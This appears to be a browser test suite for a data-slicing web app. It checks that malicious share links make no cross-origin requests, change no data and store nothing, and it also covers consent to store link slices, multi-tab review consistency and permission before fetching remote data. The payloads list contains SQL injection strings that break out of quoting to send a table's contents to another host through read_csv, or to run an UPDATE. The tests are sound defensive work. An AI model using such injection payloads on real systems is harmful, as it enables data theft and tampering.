// Hostile links: each payload of issue 12, opened while a second local origin counts every request
// it gets (it answers with permissive CORS, so a leak would succeed and be counted). None may arrive,
// the data must be unchanged and nothing from the link may be stored.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { launch, openPage } from './helpers.mjs';

let browser;
let other;
let hits = [];
before(async () => {
  browser = await launch();
  other = createServer((req, res) => {
    hits.push(req.url);
    res.writeHead(200, {
      'access-control-allow-origin': '*',
      'cross-origin-resource-policy': 'cross-origin',
      'content-type': 'text/csv',
    });
    res.end('a\n1\n');
  });
  await new Promise((r) => other.listen(0, '127.0.0.1', r));
});
after(async () => {
  await browser.close();
  other.close();
});

const origin = () => `http://127.0.0.1:${other.address().port}`;
const payloads = () => [
  `$$'$$ IS NOT NULL) ; SET VARIABLE leak = (SELECT string_agg(weather, ',') FROM ds_1) ; SELECT * FROM read_csv($$${origin()}/leak?d=$$ || getvariable($$leak$$)) ; SELECT ($$`,
  `(SELECT count(*) FROM read_csv('${origin()}/x.csv')) >= 0`,
  `season IN (SELECT a FROM '${origin()}/y.csv')`,
  `read_text('${origin()}/t') IS NOT NULL`,
  `$$x$$ = 'x') ; UPDATE ds_1 SET weather = 'sun' ; SELECT ($$`,
];

/** The demo's accuracy and row count as a clean page shows them. */
async function reference() {
  const s = await openPage(browser, '?data=demo/seattle-weather.csv&view=evaluate');
  await s.page.locator('[data-metric=accuracy] [data-value]').waitFor({ timeout: 60000 });
  const accuracy = await s.page.locator('[data-metric=accuracy] [data-value]').getAttribute('data-value');
  await s.context.close();
  return accuracy;
}

test('malicious links make no request to another origin, change no data and store nothing', async () => {
  const accuracy = await reference();
  for (const sql of payloads()) {
    hits = [];
    const slice = JSON.stringify({ name: 'x', where: { kind: 'sql', sql } });
    const slices = JSON.stringify([
      { name: 'dup', where: { kind: 'sql', sql } },
      { name: 'dup', where: { kind: 'cond', column: 'season', op: '=', value: 'winter' } },
    ]);
    const q = new URLSearchParams({ data: 'demo/seattle-weather.csv', view: 'slices', slice, slices });
    const s = await openPage(browser, `?${q}`);
    const { page } = s;
    await page.getByTestId('link-slices').waitFor({ timeout: 60000 });
    // Every view that evaluates the active slice gets its turn.
    for (const view of ['Evaluate', 'Data', 'Review', 'Slices']) {
      await page.locator('button.tab', { hasText: view }).click();
      await page.waitForTimeout(700);
    }
    assert.deepEqual(hits, [], `requests reached the other origin for ${sql}`);
    s.assertSameOrigin();
    s.assertNoErrors(); // two slices named "dup" do not crash the page
    // The link's slices are shown as such (renamed to be unique) and nothing is stored.
    assert.match(await page.getByTestId('link-slices').textContent(), /dup, dup \(2\)/);
    const stored = await page.evaluate(() =>
      Object.keys(localStorage)
        .filter((k) => k.startsWith('loupe:slices:'))
        .map((k) => localStorage.getItem(k)),
    );
    assert.ok(
      stored.every((v) => !v.includes('dup')),
      `link slices were stored: ${stored}`,
    );
    // The data is unchanged: the same accuracy on all rows.
    await page.getByRole('button', { name: 'Clear the active slice' }).click();
    await page.locator('button.tab', { hasText: 'Evaluate' }).click();
    await page.locator('[data-metric=accuracy] [data-value]').waitFor({ timeout: 60000 });
    assert.equal(await page.locator('[data-metric=accuracy] [data-value]').getAttribute('data-value'), accuracy);
    await s.context.close();
  }
});

test('a link slice is stored only when the user keeps it', async () => {
  const slices = JSON.stringify([
    { name: 'winter', where: { kind: 'cond', column: 'season', op: '=', value: 'winter' } },
  ]);
  const s = await openPage(
    browser,
    `?${new URLSearchParams({ data: 'demo/seattle-weather.csv', view: 'slices', slices })}`,
  );
  const { page } = s;
  await page.getByTestId('link-slices').waitFor({ timeout: 60000 });
  const stored = () =>
    page.evaluate(() =>
      Object.keys(localStorage)
        .filter((k) => k.startsWith('loupe:slices:'))
        .map((k) => localStorage.getItem(k))
        .join(''),
    );
  assert.doesNotMatch(await stored(), /winter/);
  await page.getByTestId('keep-link-slices').click();
  assert.match(await stored(), /winter/);
  assert.equal(await page.getByTestId('link-slices').count(), 0);
  s.assertNoErrors();
  await s.context.close();
});

test('two tabs of the same reviewer: no decision is lost or resurrected, undo takes back only its own', async () => {
  const s = await openPage(browser, '?data=demo/seattle-weather.csv&view=review');
  const tabs = [s.page, await s.context.newPage()];
  await tabs[1].goto(s.page.url());
  for (const page of tabs) {
    const name = page.getByLabel('Reviewer name');
    await name.or(page.getByTestId('review-item')).first().waitFor({ timeout: 60000 });
    if (await name.isVisible()) {
      await name.fill('ada');
      await page.getByRole('button', { name: 'Start reviewing' }).click();
    }
    await page.getByTestId('review-item').waitFor({ timeout: 60000 });
  }
  const row = (page) => page.getByTestId('review-item').getAttribute('data-row');
  const first = await row(tabs[0]);
  assert.equal(await row(tabs[1]), first);
  const stored = () =>
    tabs[0].evaluate(
      (r) =>
        new Promise((ok) => {
          const req = indexedDB.open('loupe-review');
          req.onsuccess = () => {
            const all = req.result.transaction('decisions').objectStore('decisions').getAll();
            all.onsuccess = () => ok(all.result.filter((d) => String(d.row) === r).map((d) => d.decision));
          };
        }),
      first,
    );
  // Tab A skips the item, then tab B accepts the same item: B's decision is the stored one.
  await tabs[0].keyboard.press('s');
  await tabs[0].waitForFunction(
    (r) => document.querySelector('[data-testid=review-item]')?.getAttribute('data-row') !== r,
    first,
  );
  await tabs[1].keyboard.press('a');
  await tabs[1].waitForFunction(
    (r) => document.querySelector('[data-testid=review-item]')?.getAttribute('data-row') !== r,
    first,
  );
  assert.deepEqual(await stored(), ['accept']);
  // Undo in tab A must not delete B's decision.
  await tabs[0].keyboard.press('u');
  await tabs[0].waitForTimeout(500);
  assert.deepEqual(await stored(), ['accept']);
  // Both tabs count what is stored: one decision, accepted.
  for (const page of tabs) {
    await page.waitForFunction(() =>
      /^1 of \d+ reviewed\s+\(1 accepted/.test(
        document.querySelector('[data-testid=review-progress]')?.textContent ?? '',
      ),
    );
  }
  // Undo in tab B takes back its own accept, and tab A follows.
  await tabs[1].keyboard.press('u');
  await tabs[1].waitForFunction(
    (r) => document.querySelector('[data-testid=review-item]')?.getAttribute('data-row') === r,
    first,
  );
  assert.deepEqual(await stored(), []);
  await tabs[0].waitForFunction(() =>
    /^0 of \d+ reviewed/.test(document.querySelector('[data-testid=review-progress]')?.textContent ?? ''),
  );
  s.assertNoErrors();
  await s.context.close();
});

test("a link's data on another origin is fetched only once the user allows it", async () => {
  hits = [];
  const s = await openPage(browser, `?${new URLSearchParams({ data: `${origin()}/shared.csv`, view: 'evaluate' })}`);
  const { page } = s;
  await page.getByTestId('link-consent').waitFor({ timeout: 30000 });
  assert.match(await page.getByTestId('link-consent').textContent(), new RegExp(origin().replace(/[.:/]/g, '\\$&')));
  await page.waitForTimeout(500);
  assert.deepEqual(hits, []);
  await page.getByTestId('link-consent-open').click();
  await page.locator('.datasets li', { hasText: 'shared.csv' }).waitFor({ timeout: 30000 });
  assert.deepEqual(hits, ['/shared.csv']);
  s.assertNoErrors();
  await s.context.close();
});
